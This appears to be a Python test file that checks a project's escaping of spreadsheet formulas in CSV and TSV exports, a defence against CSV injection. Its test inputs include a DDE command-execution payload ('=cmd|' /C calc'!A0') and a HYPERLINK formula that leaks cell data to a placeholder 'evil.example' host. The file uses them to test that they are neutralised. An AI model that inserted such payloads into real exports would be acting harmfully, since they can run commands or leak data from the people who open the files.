"""Formula neutralisation of CSV/TSV cells (OWASP CSV injection rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyoxigraph as ox
import pytest

from referentiel.spreadsheet import SafeWriter, neutralise
from referentiel.store.sparql import QueryResult, to_csv, to_tsv


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x")', "+32 470", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "=", "-", "-3 ans"],
)
def test_formula_starts_are_prefixed(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "-0.5", "+7", "1e3", "-1.5E-2", "plain", "", "'=quoted", "a=b"])
def test_numbers_and_plain_text_are_kept(text: str) -> None:
    assert neutralise(text) == text


def test_safe_writer_neutralises_text_cells_only() -> None:
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerow(["=1+1", 3, "-4", "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "3", "-4", "ok"]


def test_query_results_csv_and_tsv_are_neutralised() -> None:
    result = QueryResult(
        "select",
        variables=["term", "n"],
        rows=[
            [
                ox.Literal("=cmd|' /C calc'!A0"),
                ox.Literal("-3", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer")),
            ],
            [ox.Literal("@x", language="fr"), ox.Literal("-0.5")],
        ],
    )
    rows = list(csv.reader(io.StringIO(to_csv(result))))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-3"]
    assert rows[2] == ["'@x", "-0.5"]
    lines = to_tsv(result).splitlines()
    assert lines[1].split("\t") == ["\"'=cmd|' /C calc'!A0\"", "-3"]
    assert lines[2].split("\t") == ['"\'@x"@fr', '"-0.5"']


def test_mapping_sets_are_written_neutralised_and_read_back_as_they_were() -> None:
    from referentiel.translation.sssom import dumps_mapping_set, parse_mapping_set, read_mapping_set

    path = (
        Path(__file__).resolve().parents[2]
        / "examples"
        / "organisations"
        / "cpas-ixelles"
        / "mappings.sssom.tsv"
    )
    ms = read_mapping_set(path)
    ms.mappings[0].subject_label = '=HYPERLINK("http://evil.example/?"&A1)'
    ms.mappings[1].subject_label = "-12 mois"
    text = dumps_mapping_set(ms)
    assert "'=HYPERLINK(" in text and "\t'-12 mois" in text
    again = parse_mapping_set(text)
    assert again.mappings[0].subject_label == '=HYPERLINK("http://evil.example/?"&A1)'
    assert again.mappings[1].subject_label == "-12 mois"
    assert [m.subject_id for m in again.mappings] == [m.subject_id for m in ms.mappings]


def test_mappings_coverage_csv_is_neutralised() -> None:
    from collections import Counter

    from referentiel.translation.mapping_coverage import ColumnCoverage, CoverageReport, render_csv

    column = ColumnCoverage(
        file="=evil.csv",
        column="@besoins",
        property="ref:need",
        sheet=None,
        terms=Counter({"unmapped": 1}),
        cells=Counter({"unmapped": 3}),
        unmapped=[("=cmd|'/C calc'!A0", 3)],
    )
    rows = list(csv.reader(io.StringIO(render_csv(CoverageReport("+org", [column])))))
    unmapped = next(r for r in rows[1:] if r[5] == "unmapped")
    assert unmapped[:4] == ["'+org", "'=evil.csv", "", "'@besoins"]
    assert unmapped[-1] == "'=cmd|'/C calc'!A0 (3)" and unmapped[6] == "1"
